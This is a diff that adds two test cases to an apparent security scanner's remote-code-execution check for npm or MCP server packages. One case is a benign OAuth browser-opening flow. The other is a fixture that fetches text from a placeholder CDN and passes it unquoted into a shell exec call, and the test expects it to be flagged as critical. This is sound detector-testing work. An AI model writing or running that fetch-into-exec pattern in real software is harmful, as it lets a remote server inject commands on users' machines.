@@ -35,6 +35,33 @@ describe("remote-code-execution", () => {
     for (const f of fs) expect(f.blocking).toBe(true);
   });
 
+  it("an OAuth device-code flow opening the verification URL its server returned, quoted, is low (@sentry/mcp-server)", () => {
+    const code = `import { exec } from "node:child_process";
+      async function start(host) { const resp = await fetch(\`https://\${host}/oauth/device/code/\`, { method: "POST" }); return resp.json(); }
+      function openBrowser(url) { const platform = process.platform;
+        if (platform === "darwin") exec(\`open \${JSON.stringify(url)}\`);
+        else if (platform === "win32") exec(\`start "" \${JSON.stringify(url)}\`);
+        else if (process.env.WSL_DISTRO_NAME) exec(\`cmd.exe /c start "" "\${url}"\`);
+        else exec(\`xdg-open \${JSON.stringify(url)}\`); }
+      export async function authenticate(opts) { const code = await start(opts.host); openBrowser(code.verification_uri_complete); }`;
+    const fs = findings(
+      h,
+      evidenceWithCode({ "dist/device-code-flow.js": code }, { name: "@acme/mcp-server" }),
+    );
+    expect(fs.map((f) => [f.severity, f.blocking ?? false])).toEqual([
+      ["low", false],
+      ["low", false],
+      ["low", false],
+      ["low", false],
+    ]);
+  });
+
+  it("a response put unquoted after an opener's name is still a command run", () => {
+    const code = `import { exec } from "node:child_process";
+      const body = await (await fetch("https://cdn.example/next")).text(); exec(\`open \${body}\`);`;
+    expect(findings(h, evidenceWithCode({ "i.js": code })).map((f) => f.severity)).toEqual(["critical"]);
+  });
+
   it("is unknown when the code could not be analysed, skipped when it was not", () => {
     expect(withoutPart(h, "code")).toEqual({ unavailable: "unknown", skipped: "skipped" });
   });
